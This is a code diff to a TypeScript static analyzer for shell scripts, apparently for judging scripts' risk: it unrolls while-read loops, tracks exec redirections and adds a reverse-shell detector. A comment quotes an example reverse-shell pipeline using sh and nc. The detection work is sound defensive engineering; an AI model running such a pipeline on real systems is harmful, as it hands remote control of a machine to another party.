@@ -1,8 +1,18 @@
-import type { Assignment, Case, Command, If, ParsedScript, Redirection, SyntaxNode, Word as SyntaxWord } from 'unbash';
+import type {
+	Assignment,
+	Case,
+	Command,
+	If,
+	ParsedScript,
+	Redirection,
+	SyntaxNode,
+	Word as SyntaxWord,
+	While,
+} from 'unbash';
 import { type Analysis, addOpaque, nothing, type Run } from './analysis.ts';
 import { readArithmetic } from './arithmetic.ts';
 import { assign, settingFindings } from './assignments.ts';
-import { judgeWords, report } from './command.ts';
+import { fedUnknown, judgeWords, report } from './command.ts';
 import { createFolding, foldWord } from './fold.ts';
 import { loop } from './loop.ts';
 import type { Folding } from './piece.ts';
@@ -62,7 +72,7 @@ function walk(node: SyntaxNode, run: Run, analysis: Analysis): Stream {
 		case 'Select':
 			return walkFor(node, run, analysis);
 		case 'While':
-			return loop((way) => all([node.clause, node.body], way, analysis), run);
+			return walkWhile(node, run, analysis);
 		case 'ArithmeticFor':
 			evaluate(node, run, analysis);
 			return loop((way) => walk(node.body, way, analysis), run);
@@ -86,13 +96,23 @@ function apart(run: Run): Run {
 function walkPipeline(commands: readonly SyntaxNode[], run: Run, analysis: Analysis): Stream {
 	if (commands.length === 1 && commands[0] !== undefined) return walk(commands[0], run, analysis);
 	let stdin = run.stdin;
+	const start = analysis.parts.length;
 	for (const command of commands) {
 		const from = analysis.parts.length;
 		const output = walk(command, { ...apart(run), stdin, traits: [...run.traits, 'pipe'] }, analysis);
 		const touched = hasNetwork(analysis, from);
 		stdin = { ...output, fetched: output.fetched || touched || stdin?.fetched === true };
 	}
+	noteReverseShell(start, analysis);
 	return stdin ?? nothing;
+}
+
+/** A shell whose commands cannot be known, in one pipeline with another machine: `sh -i < pipe | nc host 1 > pipe`. */
+function noteReverseShell(from: number, analysis: Analysis): void {
+	const effects = analysis.parts.slice(from).flatMap((part) => part.effects);
+	const isFed = effects.some((effect) => effect.kind === 'opaque' && effect.why === fedUnknown);
+	const isConnected = effects.some((effect) => effect.kind === 'network');
+	if (isFed && isConnected) addOpaque(analysis, '|', 'reverse shell: a shell is connected to another machine');
 }
 
 /** `a && b || c`: what comes after the first may run or not. */
@@ -178,6 +198,36 @@ function walkFor(node: Extract<SyntaxNode, { type: 'For' | 'Select' }>, run: Run
 	return { fetched: streams.some((stream) => stream.fetched) };
 }
 
+/** A loop that reads constant lines, or names of files, is unrolled over them. */
+function walkWhile(node: While, run: Run, analysis: Analysis): Stream {
+	const lines = isReading(node.clause) ? linesOf(run.stdin) : undefined;
+	if (lines === undefined) return loop((way) => all([node.clause, node.body], way, analysis), run);
+	const before = fork(run.state);
+	const streams = lines.map((next) => {
+		const way: Run = { ...run, isUncertain: true, line: { next } };
+		return all([node.clause, node.body], way, analysis);
+	});
+	join(run.state, before);
+	run.state.hasJumped = before.hasJumped;
+	return { fetched: streams.some((stream) => stream.fetched) };
+}
+
+function isReading(clause: SyntaxNode): boolean {
+	const [first, ...others] = clause.type === 'CompoundList' ? clause.commands : [];
+	return others.length === 0 && first?.command.type === 'Command' && first.command.name?.value === 'read';
+}
+
+function linesOf(stdin: Stream | undefined): readonly Stream[] | undefined {
+	const lines = stdin?.names?.map((name) => ({ fetched: false, names: [name] })) ?? textLines(stdin?.text);
+	return lines !== undefined && lines.length <= limits.alternatives ? lines : undefined;
+}
+
+function textLines(text: string | undefined): readonly Stream[] | undefined {
+	const lines = text?.split('\n');
+	if (lines?.at(-1) === '') lines.pop();
+	return lines?.map((line) => ({ fetched: false, text: `${line}\n` }));
+}
+
 /** Defines a function. Where two definitions may hold, a call judges both. */
 function defineFunction(name: string, body: SyntaxNode, run: Run, analysis: Analysis): Stream {
 	const before = analysis.functions.get(name);
@@ -241,6 +291,9 @@ function walkCommand(node: Command, run: Run, analysis: Analysis): Stream {
 	}
 	const inner: Run = assignments.length > 0 ? apart(run) : run;
 	for (const item of assignments) assign(item, folding, inner.state);
+	if (words.length === 1 && words[0]?.text === 'exec') {
+		for (const [number, stream] of redirected.opened) run.state.descriptors.set(number, stream);
+	}
 	const isReadingLine = words[0]?.text === 'read';
 	const output = judgeWords(
 		words,
